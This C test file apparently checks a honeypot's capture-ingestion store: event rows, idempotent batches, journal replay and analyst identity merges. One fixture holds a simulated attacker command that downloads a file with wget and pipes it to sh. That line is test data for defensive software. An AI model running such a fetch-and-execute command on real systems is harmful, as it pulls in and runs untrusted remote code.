/* SPDX-License-Identifier: Apache-2.0 */
/* Captures in, rows and journal out, on a real database file: what each capture becomes, that a
 * repeated batch changes nothing, and that folding the journal from any watermark gives the rows.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "bus/topic.h"
#include "resolver/batch.h"
#include "scratch.h"
#include "store/attacker_view.h"
#include "store/identity_tx.h"
#include "store/journal.h"
#include "store/log.h"
#include "util/clock.h"
#include "util/json.h"

#define SOURCE	 0x1122334455667788ULL
#define T0	 1769847300000ULL
#define TOPOLOGY "0198c0de-0000-7000-8000-000000000001"
#define DECKY	 "0198c0de-0000-7000-8000-000000000002"

struct world {
	struct scratch at;
	struct db *db;
	struct linker *linker;
	struct batch_in batch;
	uint64_t no, now_ms;
	unsigned random;
	struct err e;
};

static int
setup(void **state)
{
	struct world *w = calloc(1, sizeof(*w));

	assert_non_null(w);
	scratch_make(&w->at);
	w->db = scratch_open(&w->at);
	assert_int_equal(linker_new(NULL, &w->linker), 0);
	w->now_ms = T0;
	w->random = 12345;
	*state = w;
	return 0;
}

static int
teardown(void **state)
{
	struct world *w = *state;

	batch_fini(&w->batch);
	linker_free(w->linker);
	db_close(w->db);
	scratch_remove(&w->at);
	free(w);
	return 0;
}

static unsigned
dice(struct world *w, unsigned below)
{
	w->random = w->random * 1103515245U + 12345U;
	return (w->random >> 16) % below;
}

/* Add one capture to the batch; fields are pairs of texts up to NULL. */
static void
see(struct world *w, enum capture_type type, const char *ip, const char *decky, const char *service,
    const char *session, const char *const *fields)
{
	struct capture c = {
		.source = SOURCE,
		.no = ++w->no,
		.ts_ms = w->now_ms,
		.type = type,
		.topology_id = SV(TOPOLOGY),
		.decky_uuid = SV(DECKY),
		.decky = sv_from(decky),
		.service = sv_from(service),
		.session_id = sv_from(session),
		.peer_ip = sv_from(ip),
		.peer_port = 40000,
		.local_port = 23,
	};
	struct buf b;

	for (; fields && *fields; fields += 2)
		c.fields[c.nfields++] =
			(struct capture_field){sv_from(fields[0]), sv_from(fields[1])};
	buf_init(&b, 1 << 17);
	assert_int_equal(capture_put(&b, &c), 0);
	assert_int_equal(batch_add(&w->batch, buf_sv(&b), w->now_ms), 0);
	buf_fini(&b);
}

#define FIELDS(...) ((const char *const[]){__VA_ARGS__, NULL})
#define S1	    "0198c0de-0000-7000-8000-0000000000a1"

static void
flush(struct world *w, struct ingest_result *ret)
{
	struct ingest_result got = {0};

	if (batch_store(&w->batch, w->db, w->linker, w->now_ms, NULL, &got, &w->e) < 0)
		fail_msg("%s", err_text(&w->e));
	batch_reset(&w->batch);
	w->now_ms += 20;
	if (ret)
		*ret = got;
	else
		journal_rows_fini(&got.rows);
}

static json_t *
log_rows(struct world *w, const char *search)
{
	struct log_filter f = {.end_ms = UINT64_MAX};
	json_t *data = NULL;
	int64_t total = 0;

	assert_int_equal(search_parse(sv_from(search), &f.search), 0);
	if (log_list(w->db, &f, 1000, 0, &data, &total, &w->e) < 0)
		fail_msg("%s", err_text(&w->e));
	if (total <= 1000)
		assert_int_equal(total, json_array_size(data));
	search_fini(&f.search);
	return data;
}

static const char *
text_of(const json_t *row, const char *key)
{
	const char *text = json_get_text(row, key);

	assert_non_null(text);
	return text;
}

static void
one_visit(void **state)
{
	static const char *const want[] = {
		"attacker.session.started", "attacker.session.ended", "attacker.fingerprinted",
		"attacker.fingerprinted",   "credential.captured",    "attacker.observed",
		"attacker.scored",	    "identity.formed",	      "identity.updated",
	};
	struct world *w = *state;
	struct ingest_result got;
	json_t *rows, *row, *fields;
	int64_t total;

	see(w, CAPTURE_CONNECT, "::ffff:203.0.113.9", "web-1", "telnet", S1, NULL);
	see(w, CAPTURE_AUTH, "203.0.113.9", "web-1", "telnet", S1,
	    FIELDS("username", "root", "password", "hunter2\xff\x1b", "method", "password", "ok",
		   "true"));
	see(w, CAPTURE_COMMAND, "203.0.113.9", "web-1", "telnet", S1,
	    FIELDS("command", "wget http://x/a; sh\na"));
	see(w, CAPTURE_FILE_CAPTURED, "203.0.113.9", "web-1", "telnet", S1,
	    FIELDS("name", "a", "size", "3", "sha256",
		   "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"));
	see(w, CAPTURE_FINGERPRINT, "203.0.113.9", "web-1", "telnet", S1,
	    FIELDS("primitive", "http.version", "value", "1.1"));
	see(w, CAPTURE_DISCONNECT, "203.0.113.9", "web-1", "telnet", S1,
	    FIELDS("duration_s", "1.25", "bytes_in", "10", "bytes_out", "20", "reason", "eof"));
	flush(w, &got);
	assert_int_equal(got.flushed, 6);
	assert_int_equal(got.position, 6);
	assert_int_equal(got.nacks, 1);
	assert_true(got.acks[0].no == 6);
	assert_int_equal(got.rows.n, ARRAY_LEN(want));
	for (size_t i = 0; i < ARRAY_LEN(want); i++)
		assert_string_equal(got.rows.v[i].topic, want[i]);
	journal_rows_fini(&got.rows);

	rows = log_rows(w, "event:auth");
	assert_int_equal(json_array_size(rows), 1);
	row = json_array_get(rows, 0);
	assert_string_equal(text_of(row, "attacker_ip"), "203.0.113.9");
	assert_null(strstr(text_of(row, "raw_line"), "hunter2"));
	assert_int_equal(json_parse(sv_from(text_of(row, "fields")), &fields, NULL), 0);
	assert_string_equal(text_of(fields, "password"), "hunter2\xef\xbf\xbd\x1b");
	assert_true(json_is_true(json_object_get(fields, "ok")));
	json_decref(fields);
	json_decref(rows);

	if (attacker_list(w->db,
			  &(struct attacker_filter){.ip = SV("3.0.11"), .service = SV("telnet")},
			  50, 0, &rows, &total, &w->e) < 0)
		fail_msg("%s", err_text(&w->e));
	assert_int_equal(total, 1);
	row = json_array_get(rows, 0);
	assert_int_equal(json_integer_value(json_object_get(row, "event_count")), 6);
	assert_int_equal(json_integer_value(json_object_get(row, "bounty_count")), 4);
	assert_int_equal(json_integer_value(json_object_get(row, "credential_count")), 1);
	assert_int_equal(json_array_size(json_object_get(row, "fingerprints")), 2);
	assert_int_equal(json_array_size(json_object_get(row, "commands")), 1);
	assert_int_equal(json_object_size(row), 29);
	json_decref(rows);
}

static void
refused_and_repeated(void **state)
{
	struct world *w = *state;
	struct ingest_result got;
	json_t *rows;

	see(w, CAPTURE_CONNECT, "203.0.113.9", "web-1", "telnet", S1, NULL);
	see(w, CAPTURE_CONNECT, "not an address", "web-1", "telnet", S1, NULL);
	see(w, CAPTURE_CONNECT, "203.0.113.9", "Web_1", "telnet", S1, NULL);
	see(w, CAPTURE_FINGERPRINT, "203.0.113.9", "web-1", "telnet", S1,
	    FIELDS("primitive", "no.such", "value", "1"));
	see(w, CAPTURE_CONNECT, "203.0.113.9", "web-1", "telnet", "", NULL);
	see(w, CAPTURE_HANDSHAKE, "203.0.113.9", "web-1", "telnet", S1, NULL);
	assert_int_equal(batch_add(&w->batch, SV("garbage"), w->now_ms), 0);
	assert_int_equal(w->batch.rejected[REJECT_PEER], 1);
	assert_int_equal(w->batch.rejected[REJECT_PLACE], 2);
	assert_int_equal(w->batch.rejected[REJECT_SIGNAL], 1);
	assert_int_equal(w->batch.rejected[REJECT_FRAME], 1);
	flush(w, &got);
	assert_int_equal(got.flushed, 2);
	assert_true(got.acks[0].no == 6);
	journal_rows_fini(&got.rows);

	/* All of it again, then one that comes too early. */
	w->no = 0;
	for (unsigned i = 0; i < 6; i++)
		see(w, CAPTURE_CONNECT, "203.0.113.9", "web-1", "telnet", S1, NULL);
	w->no = 7;
	see(w, CAPTURE_CONNECT, "203.0.113.9", "web-1", "telnet", S1, NULL);
	flush(w, &got);
	assert_int_equal(got.flushed, 0);
	assert_int_equal(got.repeated, 6);
	assert_int_equal(got.early, 1);
	assert_true(got.gap.no == 8 && got.gap.source == SOURCE);
	assert_int_equal(got.rows.n, 0);
	journal_rows_fini(&got.rows);
	rows = log_rows(w, "");
	assert_int_equal(json_array_size(rows), 2);
	json_decref(rows);
}

/* -- folding -- */

struct view {
	json_t *attackers;  /* uuid: row */
	json_t *identities; /* uuid: row */
	json_t *of;	    /* observation: identity */
	int64_t seq;
};

static void
view_fini(struct view *v)
{
	json_decref(v->attackers);
	json_decref(v->identities);
	json_decref(v->of);
}

/* What REST shows now. */
static struct view
rest(struct world *w)
{
	struct view v = {json_object(), json_object(), json_object(), 0};
	json_t *list = NULL, *row;
	int64_t total;
	size_t i;

	assert_int_equal(db_begin_read(w->db, &w->e), 0);
	assert_int_equal(journal_head(w->db, &v.seq, &w->e), 0);
	assert_int_equal(attacker_page(w->db, "", 1000, &list, &w->e), 0);
	json_array_foreach(list, i, row)
	{
		json_object_set(v.attackers, text_of(row, "uuid"), row);
		json_object_set(v.of, text_of(row, "uuid"), json_object_get(row, "identity_id"));
	}
	json_decref(list);
	assert_int_equal(identity_list(w->db, 1000, 0, &list, &total, &w->e), 0);
	json_array_foreach(list, i, row)
	{
		json_object_set(v.identities, text_of(row, "uuid"), row);
	}
	json_decref(list);
	assert_int_equal(db_commit(w->db, &w->e), 0);
	return v;
}

static json_t *
new_attacker(const json_t *p)
{
	json_t *row = json_object();
	static const char *const nulls[] = {"behavior",	  "country_code",   "country_source",
					    "asn",	  "as_name",	    "bgp_prefix",
					    "asn_source", "rpki_status",    "rpki_source",
					    "ptr_record", "traversal_path", "last_rotation_at"};

	for (size_t i = 0; i < ARRAY_LEN(nulls); i++)
		json_object_set_new(row, nulls[i], json_null());
	json_object_set_new(row, "fingerprints", json_array());
	json_object_set_new(row, "commands", json_array());
	json_object_set_new(row, "rotation_count", json_integer(0));
	json_object_set(row, "uuid", json_object_get(p, "attacker_uuid"));
	json_object_set(row, "ip", json_object_get(p, "attacker_ip"));
	return row;
}

static void
set_columns(json_t *row, const json_t *from, const char *const *names)
{
	for (; *names; names++)
		json_object_set(row, *names, json_object_get(from, *names));
}

static void
add_print(json_t *row, const json_t *p)
{
	json_t *prints = json_object_get(row, "fingerprints"), *print;
	size_t i;

	json_array_foreach(prints, i, print)
	{
		if (json_equal(json_object_get(print, "primitive"),
			       json_object_get(p, "primitive")) &&
		    json_equal(json_object_get(print, "value"), json_object_get(p, "value")))
			return;
	}
	print = json_object();
	set_columns(print, p, FIELDS("primitive", "value", "source"));
	json_object_set(print, "first_seen", json_object_get(p, "ts"));
	json_array_append_new(prints, print);
}

static void
fold_attacker(struct view *v, const char *topic, const json_t *p, json_t *ts)
{
	const char *uuid = text_of(p, "attacker_uuid"), *key;
	json_t *row = json_object_get(v->attackers, uuid), *value, *commands;
	size_t i;

	/* Rows of a new attacker that come before its first attacker.observed: start it here. */
	if (!row) {
		row = new_attacker(p);
		json_object_set_new(v->attackers, uuid, row);
	}
	json_object_set(row, "updated_at", ts);
	if (strcmp(topic, "attacker.observed") == 0) {
		set_columns(row, p, FIELDS("first_seen", "last_seen", "event_count"));
		commands = json_deep_copy(json_object_get(p, "commands"));
		assert_true(json_is_array(commands));
		json_array_extend(commands, json_object_get(row, "commands"));
		for (i = json_array_size(commands); i > 200; i--)
			json_array_remove(commands, i - 1);
		json_object_set_new(row, "commands", commands);
	} else if (strcmp(topic, "attacker.scored") == 0) {
		set_columns(row, p,
			    FIELDS("event_count", "service_count", "decky_count", "bounty_count",
				   "credential_count", "is_traversal"));
		json_object_foreach(json_object_get(p, "changed"), key, value)
		{
			if (strcmp(key, "service_activity") != 0)
				json_object_set(row, key, value);
		}
	} else if (strcmp(topic, "attacker.fingerprinted") == 0) {
		add_print(row, p);
		if (!json_is_null(json_object_get(p, "previous"))) {
			json_object_set(row, "rotation_count",
					json_object_get(p, "rotation_count"));
			json_object_set(row, "last_rotation_at", json_object_get(p, "ts"));
		}
	}
}

static void
fold_identity(struct view *v, const char *type, const json_t *p, json_t *ts)
{
	json_t *row, *value;
	const char *key;
	size_t i;

	if (strcmp(type, "formed") == 0) {
		json_array_foreach(json_object_get(p, "observation_uuids"), i, value)
		{
			json_object_set(v->of, json_string_value(value),
					json_object_get(p, "identity_uuid"));
		}
		json_object_set_new(v->identities, text_of(p, "identity_uuid"), json_object());
	} else if (strcmp(type, "observation.linked") == 0) {
		json_object_set(v->of, text_of(p, "observation_uuid"),
				json_object_get(p, "identity_uuid"));
	} else if (strcmp(type, "observation.unlinked") == 0) {
		json_object_set_new(v->of, text_of(p, "observation_uuid"), json_null());
	} else if (strcmp(type, "merged") == 0) {
		row = json_object_get(v->identities, text_of(p, "loser_uuid"));
		assert_non_null(row);
		json_object_set(row, "merged_into_uuid", json_object_get(p, "winner_uuid"));
	} else if (strcmp(type, "unmerged") == 0) {
		json_array_foreach(json_object_get(p, "observation_uuids"), i, value)
		{
			json_object_set(v->of, json_string_value(value),
					json_object_get(p, "resurrected_uuid"));
		}
		json_object_set_new(v->identities, text_of(p, "resurrected_uuid"), json_object());
	} else if (strcmp(type, "updated") == 0) {
		row = json_object_get(v->identities, text_of(p, "identity_uuid"));
		assert_non_null(row);
		json_object_set(row, "updated_at", ts);
		json_object_foreach(json_object_get(p, "changed"), key, value)
		{
			json_object_set(row, key, value);
		}
	} else {
		fail_msg("unexpected identity.%s", type);
	}
}

static void
fold(struct world *w, struct view *v)
{
	struct journal_rows rows = {0};
	int n;

	while ((n = journal_read(w->db, JOURNAL_ALL, NULL, v->seq, 100, &rows, &w->e)) > 0) {
		for (size_t i = 0; i < rows.n; i++) {
			json_t *ts = json_time(rows.v[i].ts_ms), *p = NULL;

			assert_true(rows.v[i].seq == v->seq + 1);
			v->seq = rows.v[i].seq;
			assert_int_equal(json_parse(sv_from(rows.v[i].payload), &p, NULL), 0);
			if (strcmp(rows.v[i].family, "identity") == 0)
				fold_identity(v, rows.v[i].type, p, ts);
			else
				fold_attacker(v, rows.v[i].topic, p, ts);
			json_decref(p);
			json_decref(ts);
		}
		journal_rows_fini(&rows);
	}
	assert_int_equal(n, 0);
}

/* Follow merges, then drop merged-out rows, as REST does. */
static void
settle(struct view *v)
{
	json_t *row, *identity;
	const char *key;
	void *tmp;

	json_object_foreach(v->attackers, key, row)
	{
		identity = json_object_get(v->of, key);
		for (unsigned i = 0; i < 64 && json_is_string(identity); i++) {
			json_t *at = json_object_get(v->identities, json_string_value(identity));
			json_t *next = json_object_get(at, "merged_into_uuid");

			assert_non_null(at);
			if (!json_is_string(next))
				break;
			identity = next;
		}
		json_object_set(row, "identity_id", identity);
	}
	json_object_foreach_safe(v->identities, tmp, key, row)
	{
		if (json_is_string(json_object_get(row, "merged_into_uuid")))
			json_object_del(v->identities, key);
	}
}

static void
assert_same(const json_t *a, const json_t *b, const char *what)
{
	const char *key;
	json_t *value;

	json_object_foreach((json_t *)(uintptr_t)a, key, value)
	{
		if (!json_equal(value, json_object_get(b, key))) {
			char *x = json_text(value), *y = json_text(json_object_get(b, key));

			fail_msg("%s %s:\n%s\n%s", what, key, x, y);
		}
	}
	assert_int_equal(json_object_size(a), json_object_size(b));
}

static void
random_capture(struct world *w)
{
	static const char *const deckies[] = {"web-1", "web-2", "db-1"};
	static const char *const services[] = {"telnet", "http", "redis"};
	static const char *const prims[] = {"tls.ja3", "ssh.hassh", "http.version", "c2.endpoint",
					    "motor.digraph_simhash"};
	char ip[32], session[64], value[32], text[64];
	unsigned who = dice(w, 40);
	const char *decky = deckies[dice(w, 3)], *service = services[dice(w, 3)];

	(void)snprintf(ip, sizeof(ip), "198.51.100.%u", who);
	(void)snprintf(session, sizeof(session), "0198c0de-0000-7000-8000-%012u",
		       who * 8 + dice(w, 8));
	/* Mostly one of a few tools, so that there is something to join and to part. */
	(void)snprintf(value, sizeof(value), "%016u", dice(w, 6) ? who % 12 : dice(w, 12));
	(void)snprintf(text, sizeof(text), "word%u", dice(w, 60));
	switch (dice(w, 7)) {
	case 0: see(w, CAPTURE_CONNECT, ip, decky, service, session, NULL); break;
	case 1:
		see(w, CAPTURE_DISCONNECT, ip, decky, service, session,
		    FIELDS("duration_s", "0.1", "bytes_in", "1", "bytes_out", "2", "reason",
			   "eof"));
		break;
	case 2:
		see(w, CAPTURE_AUTH, ip, decky, service, session,
		    FIELDS("username", "u", "password", text, "method", "password", "ok", "false"));
		break;
	case 3:
		if (dice(w, 3) == 0)
			see(w, CAPTURE_FINGERPRINT, ip, decky, service, session,
			    FIELDS("primitive", prims[dice(w, 5)], "value", value));
		break;
	case 4:
		see(w, CAPTURE_REQUEST, ip, decky, service, session,
		    FIELDS("method", "GET", "path", "/", "host", "h", "user_agent", text, "status",
			   "404"));
		break;
	case 5: see(w, CAPTURE_MALFORMED, ip, decky, service, session, NULL); break;
	default:
		see(w, CAPTURE_COMMAND, ip, decky, service, session, FIELDS("command", text));
		break;
	}
}

static void
analyst(struct world *w)
{
	struct identity_tx *tx = NULL;
	json_t *list = NULL, *obs = NULL;
	const char *a, *b, *moved;
	char fresh[ID_UUID_SIZE], *notes = NULL;
	int64_t total;
	size_t bad = 0;

	assert_int_equal(db_begin_write(w->db, &w->e), 0);
	assert_int_equal(identity_tx_new(w->db, w->now_ms, "analyst", &tx, &w->e), 0);
	assert_int_equal(identity_list(w->db, 1000, 0, &list, &total, &w->e), 0);
	assert_true(total >= 2);
	a = text_of(json_array_get(list, 0), "uuid");
	b = text_of(json_array_get(list, 1), "uuid");
	assert_int_equal(identity_tx_note(tx, b, "line", &notes, &w->e), 1);
	assert_int_equal(identity_tx_join(tx, a, b, &w->e), 0);
	assert_int_equal(identity_tx_finish(tx, &w->e), 0);
	identity_tx_free(tx);
	assert_int_equal(db_commit(w->db, &w->e), 0);
	w->now_ms += 5;

	assert_int_equal(db_begin_write(w->db, &w->e), 0);
	assert_int_equal(identity_tx_new(w->db, w->now_ms, "analyst", &tx, &w->e), 0);
	assert_int_equal(identity_observations(w->db, a, 1000, 0, &obs, &total, &w->e), 0);
	assert_true(total >= 2);
	moved = text_of(json_array_get(obs, 0), "uuid");
	assert_int_equal(identity_tx_split(tx, a, &moved, 1, fresh, &bad, &w->e), 0);
	assert_int_equal(identity_tx_finish(tx, &w->e), 0);
	identity_tx_free(tx);
	assert_int_equal(db_commit(w->db, &w->e), 0);
	w->now_ms += 5;
	free(notes);
	json_decref(list);
	json_decref(obs);
}

/* Counts and times of every identity are what its observations say. */
static void
check_true(struct world *w)
{
	json_t *list = NULL, *row, *obs, *observation, *detail;
	int64_t total, n;
	size_t i, k;

	assert_int_equal(identity_list(w->db, 1000, 0, &list, &total, &w->e), 0);
	json_array_foreach(list, i, row)
	{
		const char *first = "9", *last = "0";

		assert_int_equal(identity_observations(w->db, text_of(row, "uuid"), 1000, 0, &obs,
						       &n, &w->e),
				 0);
		json_array_foreach(obs, k, observation)
		{
			const char *f = text_of(observation, "first_seen");
			const char *l = text_of(observation, "last_seen");

			first = strcmp(f, first) < 0 ? f : first;
			last = strcmp(l, last) > 0 ? l : last;
			assert_string_equal(text_of(observation, "identity_id"),
					    text_of(row, "uuid"));
		}
		assert_int_equal(n, json_integer_value(json_object_get(row, "observation_count")));
		assert_string_equal(text_of(row, "first_seen_at"), first);
		assert_string_equal(text_of(row, "last_seen_at"), last);
		assert_int_equal(identity_detail(w->db, text_of(row, "uuid"), &detail, &w->e), 1);
		assert_int_equal(
			n, json_integer_value(json_object_get(detail, "observation_count_live")));
		json_decref(detail);
		json_decref(obs);
	}
	json_decref(list);
}

#define ROUNDS 60

static void
fold_from_any_watermark(void **state)
{
	struct world *w = *state;
	struct view at[ROUNDS], now;

	for (unsigned i = 0; i < ROUNDS; i++) {
		at[i] = rest(w);
		for (unsigned k = dice(w, 40); k > 0; k--)
			random_capture(w);
		flush(w, NULL);
		if (i % 20 == 19)
			analyst(w);
	}
	now = rest(w);
	assert_true(now.seq > 200);
	assert_true(json_object_size(now.identities) < json_object_size(now.attackers));
	check_true(w);
	for (unsigned i = 0; i < ROUNDS; i++) {
		fold(w, &at[i]);
		assert_true(at[i].seq == now.seq);
		settle(&at[i]);
		assert_same(now.attackers, at[i].attackers, "attacker");
		assert_same(now.identities, at[i].identities, "identity");
		view_fini(&at[i]);
	}
	view_fini(&now);
}

static char *
identity_of(struct world *w, const char *ip)
{
	json_t *rows = NULL;
	int64_t total;
	char *uuid;

	assert_int_equal(attacker_list(w->db, &(struct attacker_filter){.ip = sv_from(ip)}, 1, 0,
				       &rows, &total, &w->e),
			 0);
	assert_int_equal(total, 1);
	uuid = sv_dup(sv_from(text_of(json_array_get(rows, 0), "identity_id")));
	json_decref(rows);
	return uuid;
}

static bool
together(struct world *w, const char *a, const char *b)
{
	char *x = identity_of(w, a), *y = identity_of(w, b);
	bool same = strcmp(x, y) == 0;

	free(x);
	free(y);
	return same;
}

static void
print(struct world *w, const char *ip, const char *primitive, const char *value)
{
	see(w, CAPTURE_FINGERPRINT, ip, "web-1", "http", S1,
	    FIELDS("primitive", primitive, "value", value));
	flush(w, NULL);
}

static void
rule_and_analyst(void **state)
{
	struct world *w = *state;
	struct identity_tx *tx = NULL;
	json_t *obs = NULL;
	const char *moved;
	char fresh[ID_UUID_SIZE], *id;
	int64_t total;
	size_t bad = 0;

	print(w, "192.0.2.1", "tls.ja3", "aaaa");
	print(w, "192.0.2.2", "http.version", "1.1");
	print(w, "192.0.2.3", "http.version", "1.1");
	assert_false(together(w, "192.0.2.2", "192.0.2.3"));
	print(w, "192.0.2.3", "tls.ja3", "aaaa");
	assert_true(together(w, "192.0.2.1", "192.0.2.3"));
	/* One stack shared, the other not: no. */
	print(w, "192.0.2.6", "ssh.hassh", "h6");
	print(w, "192.0.2.6", "tls.ja3", "bbbb");
	print(w, "192.0.2.4", "ssh.hassh", "h4");
	print(w, "192.0.2.4", "tls.ja3", "bbbb");
	assert_false(together(w, "192.0.2.6", "192.0.2.4"));

	/* An analyst parts 1 and 3: what they go on to share does not join them again. */
	id = identity_of(w, "192.0.2.1");
	assert_int_equal(identity_observations(w->db, id, 10, 0, &obs, &total, &w->e), 0);
	assert_int_equal(total, 2);
	moved = text_of(json_array_get(obs, 0), "uuid");
	assert_int_equal(db_begin_write(w->db, &w->e), 0);
	assert_int_equal(identity_tx_new(w->db, w->now_ms, "analyst", &tx, &w->e), 0);
	assert_int_equal(identity_tx_split(tx, id, &moved, 1, fresh, &bad, &w->e), 0);
	assert_int_equal(identity_tx_finish(tx, &w->e), 0);
	identity_tx_free(tx);
	assert_int_equal(db_commit(w->db, &w->e), 0);
	assert_false(together(w, "192.0.2.1", "192.0.2.3"));
	print(w, "192.0.2.1", "c2.endpoint", "203.0.113.1:80");
	print(w, "192.0.2.3", "c2.endpoint", "203.0.113.1:80");
	assert_false(together(w, "192.0.2.1", "192.0.2.3"));
	/* A third that is like both joins one; the other stays apart. */
	print(w, "192.0.2.5", "c2.endpoint", "203.0.113.1:80");
	assert_false(together(w, "192.0.2.1", "192.0.2.3"));
	assert_true(together(w, "192.0.2.5", "192.0.2.1") || together(w, "192.0.2.5", "192.0.2.3"));
	check_true(w);
	json_decref(obs);
	free(id);
}

static void
an_idle_store_is_not_written(void **state)
{
	struct world *w = *state;
	struct ingest_result got;
	int64_t before = 0, after = 0;

	print(w, "192.0.2.1", "tls.ja3", "aaaa");
	assert_int_equal(journal_head(w->db, &before, &w->e), 0);
	flush(w, &got);
	assert_int_equal(got.rows.n, 0);
	assert_int_equal(journal_head(w->db, &after, &w->e), 0);
	assert_true(before == after);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(one_visit, setup, teardown),
		cmocka_unit_test_setup_teardown(refused_and_repeated, setup, teardown),
		cmocka_unit_test_setup_teardown(fold_from_any_watermark, setup, teardown),
		cmocka_unit_test_setup_teardown(rule_and_analyst, setup, teardown),
		cmocka_unit_test_setup_teardown(an_idle_store_is_not_written, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
